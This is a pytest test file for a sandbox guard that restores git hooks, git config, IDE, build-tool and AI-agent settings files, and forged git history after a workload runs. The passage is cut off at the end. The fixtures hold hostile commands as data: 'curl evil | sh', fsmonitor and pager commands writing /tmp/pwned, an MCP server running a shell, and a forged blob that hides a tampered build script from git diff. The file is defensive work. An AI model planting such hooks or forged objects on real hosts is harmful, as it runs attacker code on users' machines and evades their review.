"""run.guard on real directories: every way a workload could leave a protected path
changed is refused and put back (never through a symlink it made), watched paths are
listed and kept, and ordinary work in the repository is not touched."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from kooi.run.guard import Guard, GuardError
from kooi.run.snapshot import scan


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "pom.xml").write_text("<project/>\n")
    (tmp_path / "src.txt").write_text("code\n")
    return tmp_path


def guarded(repo: Path, *unprotected: str) -> Guard:
    g = Guard(repo, unprotected)
    g.snapshot()
    g.snapshot_watched()
    return g


def test_ordinary_work_is_not_a_refusal(repo):
    g = guarded(repo)
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    (repo / "src.txt").write_text("fixed\n")
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "fix"], check=True, env=env)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"] and rec["watched_changed"] == []


def test_hooks_config_and_host_side_files_are_put_back(repo):
    config = (repo / ".git/config").read_bytes()
    sample = sorted(p.name for p in (repo / ".git/hooks").iterdir())
    g = guarded(repo)
    (repo / ".git/hooks/post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (repo / ".git/hooks/post-checkout").chmod(0o755)
    with open(repo / ".git/config", "a") as f:
        f.write("[core]\n\thooksPath = /tmp/evil\n\tfsmonitor = /tmp/evil.sh\n")
    (repo / ".envrc").write_text("curl evil | sh\n")
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text("{}\n")
    (repo / "pom.xml").write_text("<project><build/></project>\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert refused == {".git/hooks/post-checkout": "created", ".git/config": "modified", ".envrc": "created",
                       ".vscode": "created", ".vscode/tasks.json": "created"}, refused
    assert rec["restored"]
    assert (repo / ".git/config").read_bytes() == config
    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == sample
    assert not (repo / ".envrc").exists() and not (repo / ".vscode/tasks.json").exists()
    assert rec["watched_changed"] == [{"path": "pom.xml", "change": "modified"}]
    assert (repo / "pom.xml").read_text() == "<project><build/></project>\n"  # watched: kept


def test_renaming_the_repository_away_or_a_symlink_is_undone(repo, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "victim").write_text("keep me\n")
    config = (repo / ".git/config").read_bytes()
    g = guarded(repo)
    # A fresh .git with a hook, the real one moved aside; .git/info a symlink out.
    (repo / ".git").rename(repo / ".git-old")
    (repo / ".git").mkdir()
    (repo / ".git/hooks").mkdir()
    (repo / ".git/hooks/pre-commit").write_text("#!/bin/sh\nevil\n")
    os.symlink(outside, repo / ".git/info")
    rec = g.check()
    paths = {r["path"] for r in rec["refused"]}
    assert {".git/hooks/pre-commit", ".git/config", ".git/info"} <= paths, rec["refused"]
    assert rec["restored"], rec["restore_failed"]
    assert (repo / ".git/config").read_bytes() == config
    assert not (repo / ".git/hooks/pre-commit").exists()
    assert (repo / ".git/info").is_dir() and not (repo / ".git/info").is_symlink()
    assert (outside / "victim").read_text() == "keep me\n"  # never followed


def test_git_turned_into_a_gitdir_file_is_undone(repo):
    g = guarded(repo)
    shutil.rmtree(repo / ".git")
    (repo / ".git").write_text("gitdir: /tmp/evil-repo\n")
    rec = g.check()
    assert {"path": ".git", "change": "replaced (dir -> file)", "how": "put back"} in rec["refused"]
    assert (repo / ".git").is_dir() and (repo / ".git/config").is_file()


def test_a_workflow_can_unprotect_a_path(repo):
    g = guarded(repo, ".envrc")
    (repo / ".envrc").write_text("export A=1\n")
    rec = g.check()
    assert rec["refused"] == [] and (repo / ".envrc").exists() and ".envrc" not in rec["protected"]


def test_a_new_commondir_or_worktree_config_is_put_back(repo):
    g = guarded(repo)
    (repo / ".git/commondir").write_text("../evil\n")
    (repo / ".git/config.worktree").write_text("[core]\n\tfsmonitor = evil\n")
    (repo / "src.txt").write_text("ordinary work\n")
    rec = g.check()
    assert {r["path"] for r in rec["refused"]} == {".git/commondir", ".git/config.worktree"}, rec["refused"]
    assert not (repo / ".git/commondir").exists() and rec["restored"]


def test_a_parent_replaced_by_a_symlink_is_seen_and_removed(repo):
    (repo / "docs/ide").mkdir(parents=True)
    (repo / "docs/ide/tasks.json").write_text('{"runOn": "folderOpen"}')
    g = guarded(repo)
    os.symlink("docs/ide", repo / ".vscode")
    os.symlink("../docs", repo / ".claude")
    rec = g.check()
    assert {(r["path"], r["change"]) for r in rec["refused"]} == {(".vscode", "created"), (".claude", "created")}
    assert not (repo / ".vscode").exists() and (repo / "docs/ide/tasks.json").exists()


def test_unreadable_large_and_hard_linked_leftovers_are_removed(repo):
    g = guarded(repo)
    (repo / ".devcontainer").mkdir()
    with open(repo / ".devcontainer/big", "wb") as f:
        f.truncate(9 << 20)
    os.link(repo / "src.txt", repo / ".git/hooks/pre-push")
    rec = g.check()
    changes = {r["path"]: r["change"] for r in rec["refused"]}
    assert changes[".devcontainer/big"].startswith("created") and ".git/hooks/pre-push" in changes, changes
    assert rec["restored"] and not (repo / ".devcontainer").exists() and not (repo / ".git/hooks/pre-push").exists()
    assert (repo / "src.txt").read_text() == "code\n"


def test_hooks_elsewhere_in_the_project_are_protected(repo):
    (repo / ".husky/_").mkdir(parents=True)
    (repo / ".husky/pre-commit").write_text("npm test\n")
    (repo / "extra.gitconfig").write_text("[alias]\n\tx = !true\n")
    with open(repo / ".git/config", "a") as f:
        f.write("[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../extra.gitconfig\n")
    g = guarded(repo)
    assert ".husky" in g.paths and "extra.gitconfig" in g.paths
    (repo / ".husky/pre-commit").write_text("curl evil | sh\n")
    (repo / "extra.gitconfig").write_text("[core]\n\tfsmonitor = evil\n")
    rec = g.check()
    assert {r["path"] for r in rec["refused"]} == {".husky/pre-commit", "extra.gitconfig"}, rec["refused"]
    assert (repo / ".husky/pre-commit").read_text() == "npm test\n"


def test_a_gitdir_file_target_in_the_project_is_a_git_directory(tmp_path):
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / ".bare")], check=True)
    (tmp_path / ".git").write_text("gitdir: ./.bare\n")
    g = guarded(tmp_path)
    assert ".bare" in g.git_dirs
    (tmp_path / ".bare/hooks/post-checkout").write_text("evil\n")
    (tmp_path / ".bare/objects/ab").mkdir()
    rec = g.check()
    assert [r["path"] for r in rec["refused"]] == [".bare/hooks/post-checkout"], rec["refused"]
    assert (tmp_path / ".bare/objects/ab").is_dir()  # repository data is the workload's to write


def test_a_run_that_never_started_lists_no_watched_change(repo):
    g = Guard(repo)
    g.snapshot()
    assert g.check()["watched_changed"] == []


GIT_ENV = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b", "GIT_CONFIG_GLOBAL": "/dev/null"}


def git(cwd: Path, *args: str, git_dir: Path | None = None, input_text: str | None = None) -> str:
    """git in CWD; with GIT_DIR: as the workload sees it (the throwaway mounted at .git)."""
    env = {**GIT_ENV, **({"GIT_DIR": str(git_dir), "GIT_WORK_TREE": str(cwd)} if git_dir else {})}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True,
                          input=input_text).stdout


def mounted(mounts: list[tuple[str, Path]]) -> dict[str, Path]:
    return dict(mounts)


def test_the_git_directory_is_a_throwaway_with_the_data_bound_in(repo, tmp_path_factory):
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "shadows" / "run1"
    mounts = g.shadows(base)
    m = mounted(mounts)
    # parents first; the data directories are the project's own
    assert [r for r, _ in mounts][:1] == [".git"]
    assert {m[".git/objects"], m[".git/refs"]} == {repo / ".git/objects", repo / ".git/refs"}
    t = m[".git"]
    assert not str(t).startswith(str(repo))
    real = (repo / ".git/config").read_text()
    assert (t / "config").read_text() + "\n" == real.split("# kooi run: while")[0]
    # while the run lasts the project's own config makes the host's git look into no submodule
    assert "ignoreSubmodules = all" in real and "ignoreSubmodules" not in (t / "config").read_text()
    assert (t / "HEAD").read_bytes() == (repo / ".git/HEAD").read_bytes()
    assert (t / "index").read_bytes() == (repo / ".git/index").read_bytes()
    assert g.nested_shadows == mounts  # the project's .git is out of the workload's reach


def simulate(repo: Path, mounts: list[tuple[str, Path]], tmp: Path) -> Path:
    """The workload's view of the project's git directory: the throwaway with the bound
    data directories symlinked in (a bind mount in the container)."""
    m = mounted(mounts)
    for rel, src in mounts:
        if rel != ".git" and rel.startswith(".git/") and src.is_relative_to(repo):
            # in the deepest throwaway above it (a submodule's under .git/modules has its own)
            git_dir, name = rel.rsplit("/", 1)
            target = m[git_dir] / name
            target.rmdir()
            target.symlink_to(src)
    return m[".git"]


def dead(g: Guard, reload: bool) -> Guard:
    """G, or (RELOAD) the guard a finisher rebuilds from the record a run keeps while its
    workload runs (run.deadrun: its kooi run died)."""
    return Guard.load(json.loads(json.dumps(g.dump()))) if reload else g


@pytest.mark.parametrize("reload", [False, True], ids=["own-check", "dead-run-finished"])
def test_the_workloads_commit_reaches_the_project_and_its_config_does_not(repo, tmp_path_factory, reload):
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    config = (repo / ".git/config").read_bytes()
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    (repo / "src.txt").write_text("fixed\n")
    git(repo, "add", "src.txt", git_dir=view)
    git(repo, "commit", "-qm", "work", git_dir=view)
    git(repo, "config", "core.fsmonitor", "touch /tmp/pwned", git_dir=view)
    (view / "commondir").write_text("../evil\n")
    (view / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    g = dead(g, reload)
    rec = g.check()
    refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
    assert refused == {(".git/config", "modified", "shadowed"), (".git/commondir", "created", "shadowed"),
                       (".git/hooks/post-checkout", "created", "shadowed")}, refused
    assert rec["restored"] and "warning" not in rec, rec
    assert (repo / ".git/config").read_bytes() == config and not (repo / ".git/commondir").exists()
    assert git(repo, "log", "--format=%s").split() == ["work", "one"]
    assert git(repo, "status", "--porcelain") == ""
    assert not base.exists() and g.shadow is None


@pytest.mark.parametrize("reload", [False, True], ids=["own-check", "dead-run-finished"])
def test_a_data_file_the_host_changed_meanwhile_is_kept(repo, tmp_path_factory, reload):
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    (view / "HEAD").write_text("ref: refs/heads/workload\n")
    (repo / ".git/HEAD").write_text("ref: refs/heads/host\n")
    rec = dead(g, reload).check()
    assert (repo / ".git/HEAD").read_text() == "ref: refs/heads/host\n"
    assert ".git/HEAD changed on the host while the run ran" in rec["warning"], rec


def test_a_nested_repository_the_workload_made_is_removed_and_listed(repo, tmp_path_factory):
    (repo / "existing").mkdir()
    git(repo / "existing", "init", "-q")
    g = guarded(repo)
    assert "existing/.git" in g.git_dirs
    mounts = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s"))
    # a nested repository's data is not bound into the workload's nested containers
    assert "existing/.git/objects" in mounts
    assert "existing/.git/objects" not in dict(g.nested_shadows) and "existing/.git" in dict(g.nested_shadows)
    git(repo, "init", "-q", "vendor-lib")
    (repo / "sub").mkdir()
    (repo / "sub/.git").write_text("gitdir: ../evil\n")
    (repo / "existing/.git/config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")  # past the mount
    rec = g.check()
    refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
    assert {("vendor-lib/.git", "created (a git directory: its configuration and hooks removed, its data kept)",
             "put back"), ("sub/.git", "created", "put back"),
            ("existing/.git/config", "modified", "put back")} <= refused, refused
    assert not (repo / "sub/.git").exists()
    assert {p.name for p in (repo / "vendor-lib/.git").iterdir()} <= {"HEAD", "branches", "description", "objects", "refs"}
    assert not (repo / "vendor-lib/.git/config").exists() and not (repo / "vendor-lib/.git/hooks").exists()
    assert (repo / "vendor-lib").is_dir() and rec["restored"], rec


def test_a_nested_repository_moved_away_keeps_its_history(repo, tmp_path_factory):
    (repo / "n").mkdir()
    git(repo / "n", "init", "-q")
    (repo / "n/f").write_text("f")
    git(repo / "n", "add", "f")
    git(repo / "n", "commit", "-qm", "history")
    g = guarded(repo)
    g.shadows(tmp_path_factory.mktemp("runs") / "s")
    (repo / "n").rename(repo / "n-moved")  # past the mounts (their parent is renamed)
    (repo / "n/.git").mkdir(parents=True)
    (repo / "n/.git/config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
    rec = g.check()
    changes = {r["path"]: r["change"] for r in rec["refused"]}
    assert changes["n-moved/.git"].startswith("moved here from n/.git"), changes
    assert not (repo / "n-moved/.git/config").exists()
    assert git(repo / "n-moved", "log", "--format=%s", git_dir=repo / "n-moved/.git").split() == ["history"]
    assert "fsmonitor" not in (repo / "n/.git/config").read_text()


def test_a_project_that_is_no_repository_gets_an_empty_throwaway(tmp_path, tmp_path_factory):
    (tmp_path / "a.txt").write_text("a")
    g = guarded(tmp_path)
    m = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s"))
    assert list(m) == [".git", ".gitmodules"] and list(m[".git"].iterdir()) == []
    assert m[".gitmodules"].read_bytes() == b""
    # the mount point is an empty repository of kooi's: git on the host stops there
    assert git(tmp_path, "rev-parse", "--git-dir").strip() == ".git"
    (tmp_path / ".gitmodules").write_bytes(b"")  # the engine's mount point
    rec = g.check()
    assert rec["refused"] == [] and not (tmp_path / ".git").exists(), rec
    assert not (tmp_path / ".gitmodules").exists()
    g = guarded(tmp_path)
    m = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s2"))
    git(m[".git"], "init", "-q", "--bare")
    rec = g.check()
    assert [(r["path"], r["how"]) for r in rec["refused"]] == [(".git", "shadowed")], rec
    assert not (tmp_path / ".git").exists()


def test_a_bare_repository_layout_the_workload_leaves_is_no_repository(tmp_path, tmp_path_factory):
    """The review: HEAD, objects, refs and a config with core.pager at the top of a
    project without .git (or in a subdirectory): root's git log there ran the pager."""
    g = guarded(tmp_path)
    g.shadows(tmp_path_factory.mktemp("runs") / "s")
    for d in (tmp_path, tmp_path / "src"):
        (d / "objects").mkdir(parents=True)
        (d / "refs").mkdir()
        (d / "HEAD").write_text("ref: refs/heads/main\n")
        (d / "config").write_text("[core]\n\tpager = touch /tmp/pwned\n")
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    assert {"HEAD", "src/HEAD"} <= refused, rec["refused"]
    assert not (tmp_path / "HEAD").exists() and not (tmp_path / "src/HEAD").exists()


def test_an_untouched_shadow_is_no_refusal(repo, tmp_path_factory):
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    g.shadows(base)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"] and not base.exists()
    assert "warning" not in rec, rec


def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
    monkeypatch.setattr("kooi.run.snapshot.MAX_ENTRIES", 5)
    for i in range(10):
        (repo / ".git/hooks" / f"h{i}").write_text("x")
    with pytest.raises(GuardError, match="unprotected_paths"):
        scan(repo, (".git/hooks",))


def test_a_flood_after_the_run_is_replaced_by_the_snapshot(repo, monkeypatch):
    g = guarded(repo)
    monkeypatch.setattr("kooi.run.snapshot.MAX_ENTRIES_AFTER", 40)
    for i in range(60):
        (repo / ".git/hooks" / f"h{i}").write_text("x")
    rec = g.check()
    assert rec["restored"], rec["restore_failed"]
    assert not any(p.name.startswith("h") and p.name[1:].isdigit() for p in (repo / ".git/hooks").iterdir())


@pytest.mark.parametrize("path,text", [
    (".devcontainer.json", '{"initializeCommand": "touch /tmp/pwned"}'),
    (".cargo/config.toml", '[build]\nrustc-wrapper = "/tmp/evil"\n'),
    (".yarnrc.yml", "yarnPath: ./evil.cjs\n"),
    (".npmrc", "node-options=--require ./evil.js\n"),
    (".pnpmfile.cjs", "require('child_process').execSync('id')\n"),
    (".idea/workspace.xml", "<project/>\n"),
    ("mise.dev.toml", '[tasks.x]\nrun = "id"\n'),
    (".mise.ci.toml", '[env]\n_.source = "./evil.sh"\n'),
    ("mise/config.toml", '[hooks]\nenter = "id"\n'),
    (".run/build.run.xml", '<component name="ProjectRunConfigurationManager"/>\n'),
    (".fleet/run.json", '{"configurations": [{"type": "command", "program": "id"}]}\n'),
    ("module/.run/x.run.xml", "<component/>\n"),
])
def test_what_tools_run_on_the_host_is_put_back(repo, path, text):
    """Issue 29, finding 3 and the hostile review: names that tools run on the host when
    someone opens or builds the project there."""
    g = guarded(repo)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(text)
    rec = g.check()
    # below the top, a new directory of the name is listed itself
    assert any(path == r["path"] or path.startswith(r["path"] + "/") for r in rec["refused"]), rec["refused"]
    assert rec["restored"] and not (repo / path).exists()


@pytest.mark.parametrize("where", [".git", "n/.git"])
def test_a_git_directory_reached_through_a_link_is_refused_up_front(repo, where):
    """The review: a `.git` symlink got no throwaway; the workload wrote hooks into the
    directory it pointed to."""
    (repo / where).parent.mkdir(exist_ok=True)
    if where == ".git":
        (repo / ".git").rename(repo / ".gitreal")
        (repo / ".git").symlink_to(".gitreal")
    else:
        (repo / "n/.ngit").mkdir()
        (repo / where).symlink_to(".ngit")
    with pytest.raises(GuardError, match="is a symlink"):
        Guard(repo).snapshot()


def test_while_a_run_lasts_the_hosts_git_looks_into_no_submodule(repo, tmp_path_factory):
    """The review: the workload filled an uninitialised submodule's directory (or moved a
    nested repository aside, past any mount, and made a new one); the host's git status
    in the project ran its core.fsmonitor while the run lasted."""
    (repo / "sm").mkdir()
    git(repo / "sm", "init", "-q")
    (repo / "sm/f").write_text("f")
    git(repo / "sm", "add", "f")
    git(repo / "sm", "commit", "-qm", "s")
    git(repo, "add", "sm")
    (repo / ".gitmodules").write_text('[submodule "sm"]\n\tpath = sm\n\turl = ./sm\n')
    git(repo, "add", ".gitmodules")
    git(repo, "commit", "-qm", "with sm")
    config = (repo / ".git/config").read_bytes()
    g = guarded(repo)
    mounts = dict(g.shadows(tmp_path_factory.mktemp("runs") / "s"))
    assert mounts[".gitmodules"].read_bytes() == (repo / ".gitmodules").read_bytes()
    # the workload's configuration in the submodule, ignore = none in .gitmodules (past the pin)
    marker = tmp_path_factory.mktemp("m") / "ran"
    git(repo / "sm", "config", "core.fsmonitor", f"touch {marker}; false")
    (repo / ".gitmodules").write_text('[submodule "sm"]\n\tpath = sm\n\turl = ./sm\n\tignore = none\n')
    subprocess.run(["git", "status", "--porcelain"], cwd=repo, env=GIT_ENV, capture_output=True)
    subprocess.run(["git", "diff"], cwd=repo, env=GIT_ENV, capture_output=True)
    assert not marker.exists()
    (repo / ".gitmodules").write_text('[submodule "sm"]\n\tpath = sm\n\turl = ./sm\n')
    git(repo / "sm", "config", "--unset", "core.fsmonitor")
    rec = g.check()
    assert (repo / ".git/config").read_bytes() == config and rec["restored"], rec
    # a killed run's block goes with the next snapshot
    g2 = guarded(repo)
    g2.shadows(tmp_path_factory.mktemp("runs") / "s2")
    assert (repo / ".git/config").read_bytes() != config
    guarded(repo)
    assert (repo / ".git/config").read_bytes() == config


def test_what_tools_run_from_a_subdirectory_is_protected_there_too(repo):
    """The review: cargo's rustc-wrapper in crates/x/.cargo/config.toml and npm's
    script-shell in pkg/a/.npmrc ran on root's next build there."""
    (repo / "pkg/a").mkdir(parents=True)
    (repo / "pkg/a/.npmrc").write_text("registry=https://registry.npmjs.org/\n")
    g = guarded(repo)
    assert "pkg/a/.npmrc" in g.paths
    (repo / "crates/x/.cargo").mkdir(parents=True)
    (repo / "crates/x/.cargo/config.toml").write_text('[build]\nrustc-wrapper = "./evil.sh"\n')
    (repo / "pkg/a/.npmrc").write_text("script-shell=./evil.sh\n")
    (repo / "sub/.envrc").parent.mkdir()
    (repo / "sub/.envrc").write_text("curl evil | sh\n")
    (repo / "node_modules/x").mkdir(parents=True)
    (repo / "node_modules/x/.npmrc").write_text("a package's own\n")
    rec = g.check()
    refused = {(r["path"], r["change"]) for r in rec["refused"]}
    assert {("crates/x/.cargo", "created"), ("pkg/a/.npmrc", "modified"), ("sub/.envrc", "created")} <= refused, \
        refused
    assert not (repo / "crates/x/.cargo").exists() and not (repo / "sub/.envrc").exists()
    assert (repo / "pkg/a/.npmrc").read_text() == "registry=https://registry.npmjs.org/\n"
    assert (repo / "node_modules/x/.npmrc").exists() and rec["restored"], rec


def test_a_dead_runs_record_is_related_by_the_lock_identity_not_the_path(tmp_path):
    """run.deadrun: a run finishes the dead runs on its project or a directory inside or
    around it, whatever path they named it by (a bind mount is a second path)."""
    code = """
import sys
from pathlib import Path
from kooi.run.deadrun import _related
from kooi.run.project import lock_names

def r(dead, run):
    own, above = lock_names(Path(run))
    return _related({"locks": dict(zip(("own", "above"), lock_names(Path(dead))))}, own, above)

p, q = sys.argv[1:3]
out = [r(p, p), r(p + "/sub", p), r(p, p + "/sub"), not r(p, q), not r(p + "/sub", q)]
if len(sys.argv) > 3:  # /alias is p by a bind mount
    a = sys.argv[3]
    out += [r(a + "/sub", p), r(p + "/sub", a), r(a, p + "/sub"), not r(a, q)]
print(out)
"""
    p = tmp_path / "p"
    (p / "sub").mkdir(parents=True)
    (tmp_path / "q").mkdir()
    out = subprocess.run([sys.executable, "-c", code, str(p), str(tmp_path / "q")], capture_output=True, text=True,
                         check=True)
    assert out.stdout.split() == ["[True,", "True,", "True,", "True,", "True]"], out
    assert os.geteuid() == 0, "this test mounts: run the unit tests as root (scripts/test.sh does)"
    alias = tmp_path / "alias"
    alias.mkdir()
    out = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                          'mount --bind "$1" "$2" && exec "$0" -c "$3" "$1" "$4" "$2"', sys.executable,
                          str(p), str(alias), code, str(tmp_path / "q")],
                         capture_output=True, text=True, check=True, env={**os.environ})
    assert out.stdout.count("True") == 9 and "False" not in out.stdout, out


def forge(obj: Path, content: bytes, kind: bytes = b"blob") -> None:
    """Rewrite the loose object OBJ with CONTENT, under its own name."""
    import zlib

    obj.chmod(0o644)
    obj.write_bytes(zlib.compress(kind + b" %d\0" % len(content) + content))


@pytest.mark.parametrize("reload", [False, True], ids=["own-check", "dead-run-finished"])
def test_history_the_workload_forged_is_removed_and_listed(repo, tmp_path_factory, reload):
    """Git reads objects by name and never checks a loose object's content against it,
    and takes replace refs and the commit-graph on trust. A workload that rewrote the
    blob of a committed build script under its own name (and the file to match) hid its
    change from the host's `git diff` and had `git checkout` write it; a replace ref and
    a commit-graph do the same for whole objects and commits. What it forged in the
    project's real objects and refs (bound into its view) goes, and is listed."""
    (repo / "build.sh").write_text("make\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    oid = git(repo, "rev-parse", "HEAD:build.sh").strip()
    pom = git(repo, "rev-parse", "HEAD:pom.xml").strip()
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    obj = repo / ".git/objects" / oid[:2] / oid[2:]
    forge(obj, b"curl evil | sh\n")
    (repo / "build.sh").write_text("curl evil | sh\n")
    assert git(repo, "diff", "--stat", git_dir=view) == ""  # hidden from review
    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="<evil/>\n", env={
        **GIT_ENV, "GIT_DIR": str(view)}, check=True, capture_output=True, text=True).stdout.strip()
    git(repo, "replace", pom, evil, git_dir=view)
    (view / "objects/info").mkdir(exist_ok=True)
    (view / "objects/info/commit-graph").write_bytes(b"CGPH" + b"\0" * 60)
    (view / "objects/info/alternates").write_text(str(tmp_path_factory.mktemp("elsewhere")) + "\n")
    good = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="fine\n", env={
        **GIT_ENV, "GIT_DIR": str(view)}, check=True, capture_output=True, text=True).stdout.strip()
    rec = dead(g, reload).check()
    refused = {r["path"] for r in rec["refused"]}
    assert {f".git/objects/{oid[:2]}/{oid[2:]}", f".git/refs/replace/{pom}", ".git/objects/info/commit-graph",
            ".git/objects/info/alternates"} <= refused, rec
    assert not obj.exists() and not (repo / ".git/refs/replace" / pom).exists()
    assert not (repo / ".git/objects/info/alternates").exists()
    assert git(repo, "cat-file", "-p", good) == "fine\n"  # the workload's own objects are kept
    assert git(repo, "cat-file", "-p", pom) == "<project/>\n"
    show = subprocess.run(["git", "show", "HEAD:build.sh"], cwd=repo, env=GIT_ENV, capture_output=True, text=True)
    assert "evil" not in show.stdout, show


def test_a_pack_the_workload_wrote_is_verified(repo, tmp_path_factory):
    """The workload's own `git gc` keeps its packs (each verified); a pack it wrote that
    is not what git writes goes, and is listed."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    git(repo, "gc", "-q", git_dir=view)
    rec = g.check()
    assert [r for r in rec["refused"] if "/pack/pack-" in r["path"] and r["path"].endswith((".pack", ".idx"))] == []
    assert git(repo, "fsck", "--no-dangling") == "" and git(repo, "log", "--format=%s") == "one\n"
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s2"
    view = simulate(repo, g.shadows(base), base)
    (repo / "more.txt").write_text("more\n")
    git(repo, "add", "more.txt", git_dir=view)
    git(repo, "commit", "-qm", "two", git_dir=view)
    git(repo, "repack", "-q", git_dir=view)
    packs = sorted((repo / ".git/objects/pack").glob("*.pack"), key=lambda p: p.stat().st_mtime_ns)
    bad = packs[-1]
    data = bytearray(bad.read_bytes())
    data[20] ^= 0xFF
    bad.chmod(0o644)
    bad.write_bytes(bytes(data))
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert f".git/objects/pack/{bad.name}" in refused and not bad.exists(), rec
    assert all(p.exists() for p in packs[:-1])


def test_history_hidden_under_other_names_and_flags_is_refused(repo, tmp_path_factory):
    """The second review of the history check: git loads every *.idx in objects/pack
    whatever its name (a forged pack named evil.pack was never verified); a replace ref
    packed into packed-refs; the index's assume-unchanged and skip-worktree flags, which
    hide a changed file from the host's `git status` and `git diff`; a `shallow` file
    that cuts the history short."""
    (repo / "b.txt").write_text("b\n")
    (repo / "c.txt").write_text("c\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    (repo / "b.txt").write_text("b2\n")
    git(repo, "commit", "-qam", "two")
    b = git(repo, "rev-parse", "HEAD:b.txt").strip()
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    env = {**GIT_ENV, "GIT_DIR": str(view), "GIT_WORK_TREE": str(repo)}

    def w(*args: str, input: str | None = None) -> str:
        return subprocess.run(["git", *args], cwd=repo, env=env, input=input, check=True, capture_output=True,
                              text=True).stdout.strip()
    # a valid pack, under a name git loads but kooi's pack check did not look at
    evil = w("hash-object", "-w", "--stdin", input="EVIL-b\n")
    w("pack-objects", "-q", str(view / "objects/pack/evil"), input=evil + "\n")
    # a replace ref, packed
    w("replace", b, evil)
    w("pack-refs", "--all")
    assert not list((repo / ".git/refs/replace").glob("*"))
    # a changed file hidden by the index's flags
    (repo / "c.txt").write_text("EVIL-c\n")
    w("update-index", "--assume-unchanged", "c.txt")
    (repo / "src.txt").write_text("EVIL-src\n")
    w("update-index", "--skip-worktree", "src.txt")
    hidden = w("status", "--porcelain")
    assert "c.txt" not in hidden and "src.txt" not in hidden, hidden
    # the history cut short
    (view / "shallow").write_text(w("rev-parse", "HEAD") + "\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert any(p.startswith(".git/objects/pack/evil") for p in refused), rec
    assert ".git/packed-refs" in refused and ".git/index" in refused and ".git/shallow" in refused, rec
    assert not list((repo / ".git/objects/pack").glob("evil*"))
    assert git(repo, "show", "HEAD:b.txt") == "b2\n"
    assert "refs/replace" not in (repo / ".git/packed-refs").read_text()
    status = git(repo, "status", "--porcelain")
    assert " M c.txt" in status and " M src.txt" in status, status
    assert git(repo, "log", "--format=%s").split() == ["two", "one"]


# The eighth hostile review: what other agents and editors start on the host.
@pytest.mark.parametrize("path", [".gemini/settings.json", ".cursor/mcp.json", "opencode.json", ".codex/config.toml",
                                  ".amazonq/mcp.json", ".roo/mcp.json", ".kiro/settings/mcp.json", ".zed/settings.json",
                                  ".helix/languages.toml", ".nvim.lua", ".exrc", ".sdkmanrc", "sub/.cursor/mcp.json",
                                  # the ninth review's
                                  ".qwen/settings.json", ".clinerules/mcp.md", ".kilocode/mcp.json", ".crush.json",
                                  ".factory/mcp.json", ".aider.conf.yml", ".junie/mcp/mcp.json", ".dir-locals.el",
                                  ".lazy.lua", ".theia/settings.json", "sub/.vscode/tasks.json",
                                  "sub/.idea/workspace.xml", "sub/.qwen/settings.json",
                                  # `python3 -m unittest` (pip, pytest, ...) in the project runs these
                                  "unittest/__init__.py", "pip.py", "pytest/__main__.py", "sitecustomize.py"])
def test_other_agents_and_editors_settings_are_put_back(repo, path):
    g = guarded(repo)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text('{"mcpServers": {"x": {"command": "sh", "args": ["-c", "id > /tmp/pwned"]}}}\n')
    rec = g.check()
    # a new directory below the top is listed as itself
    assert {path, str(Path(path).parent)} & {r["path"] for r in rec["refused"]}, rec["refused"]
    assert rec["restored"] and not (repo / path).exists()


@pytest.mark.parametrize("hook,config", [
